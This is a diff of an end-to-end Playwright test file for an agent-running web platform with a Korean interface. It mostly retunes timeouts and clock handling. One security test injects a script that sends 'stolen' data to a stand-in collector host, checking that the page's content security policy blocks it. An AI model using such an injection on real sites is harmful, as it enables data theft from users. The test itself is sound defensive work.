@@ -15,7 +15,7 @@ from tests.e2e.browsing import Visitor, scripted
 from tests.fake_anthropic import FakeAnthropic
 from tests.platform_process import PlatformProcess
 
-pytestmark = [pytest.mark.browser, pytest.mark.sandbox, pytest.mark.timeout(180)]
+pytestmark = [pytest.mark.browser, pytest.mark.sandbox]
 
 HOSTING = json.loads((Path(__file__).resolve().parents[2] / "firebase.json").read_text(encoding="utf-8"))["hosting"]
 SALES = """\
@@ -70,12 +70,12 @@ def arrive(browser: Browser, request: pytest.FixtureRequest) -> Iterator[Arrive]
 def test_a_guest_makes_an_agent_runs_it_watches_and_reads_the_result(arrive: Arrive) -> None:
     guest = arrive()
     guest.enter()
-    work = "mkdir -p output && echo '매출' > output/report.md && sleep 2 && echo finished"
+    work = "mkdir -p output && echo '매출' > output/report.md && sleep 5 && echo finished"
     guest.make_agent("매출 요약", scripted({"tool": "Bash", "input": {"command": work}}, {"text": REPORT}, out=300))
     guest.run()
     tool = guest.page.locator(".step.tool")
-    expect(tool).to_contain_text("하는 중", timeout=30_000)
-    guest.until("running", 1)
+    guest.until("running")
+    expect(tool).to_contain_text("하는 중")
     guest.until("succeeded")
     expect(tool).to_contain_text("완료")
     tool.locator("summary").click()
@@ -108,7 +108,7 @@ def test_a_run_is_stopped_from_the_page(arrive: Arrive) -> None:
     guest.run()
     expect(guest.page.locator(".step.tool")).to_be_visible(timeout=30_000)
     guest.page.get_by_role("button", name="실행 중지").click()
-    guest.until("cancelled", 10)
+    guest.until("cancelled")
     expect(guest.page.get_by_text("실행을 취소했습니다")).to_be_visible()
 
 
@@ -123,7 +123,7 @@ def test_the_page_goes_on_where_it_was_after_the_platform_was_killed(arrive: Arr
     platform.kill()
     expect(guest.page.get_by_test_id("reconnecting")).to_be_visible()
     platform.start()
-    guest.until("succeeded", 60)
+    guest.until("succeeded")
     expect(guest.page.get_by_test_id("reconnecting")).to_have_count(0)
     expect(guest.page.locator(".step.tool")).to_have_count(2)
     assert guest.numbers() == sorted(set(guest.numbers()))
@@ -174,7 +174,9 @@ def test_the_policy_stops_what_gets_into_the_page_all_the_same(arrive: Arrive) -
         "fetch('https://collector.example.com/?stolen=1').catch(() => {})",
     ):
         guest.page.evaluate(f"() => {{ try {{ {attempt} }} catch (error) {{}} }}")
-    guest.page.wait_for_function("window.violations.length >= 5")
+    # not wait_for_function: what it does later than at once is eval, which the policy stops
+    while guest.page.evaluate("window.violations.length") < 5:
+        guest.page.wait_for_timeout(20)
     stopped = {violation.split()[0] for violation in guest.violations()}
     assert stopped == {"require-trusted-types-for", "style-src-attr", "img-src", "connect-src"}
     assert guest.page.evaluate("window.pwned") is None
@@ -213,12 +215,14 @@ def test_a_refusal_for_haste_counts_down_and_an_error_names_its_request(arrive: 
     guest = arrive()
     guest.enter()
     refusal = {"code": "rate_limited", "detail": "요청이 너무 잦습니다.", "requestId": "r_busy"}
-    answer = {"status": 429, "headers": {"Retry-After": "2"}, "json": refusal}
+    answer = {"status": 429, "headers": {"Retry-After": "600"}, "json": refusal}
+    guest.page.clock.install()
     guest.page.route("**/api/agents?*", lambda route: route.fulfill(**answer))
     guest.page.reload()
     card = guest.page.get_by_role("alert")
-    expect(card).to_contain_text("2초 뒤에")
+    expect(card).to_contain_text(re.compile(r"[3-6]\d\d초 뒤에"))
     expect(card).to_contain_text("r_busy")
+    guest.page.clock.fast_forward("10:00")
     expect(card).to_contain_text("이제 다시 할 수 있습니다")
     guest.page.unroute("**/api/agents?*")
     card.get_by_role("button", name="다시 시도").click()
@@ -391,6 +395,7 @@ def test_the_keyboard_is_enough(arrive: Arrive) -> None:
     press_until_focused(guest, "게스트로 체험")
     expect(guest.page.get_by_text("아직 에이전트가 없습니다")).to_be_visible()
     press_until_focused(guest, "새 에이전트")
+    expect(guest.page.locator("#field-name")).to_be_visible()
     expect(guest.page.locator("main")).to_be_focused()
     guest.page.keyboard.press("Tab")
     guest.page.keyboard.insert_text("자판으로")
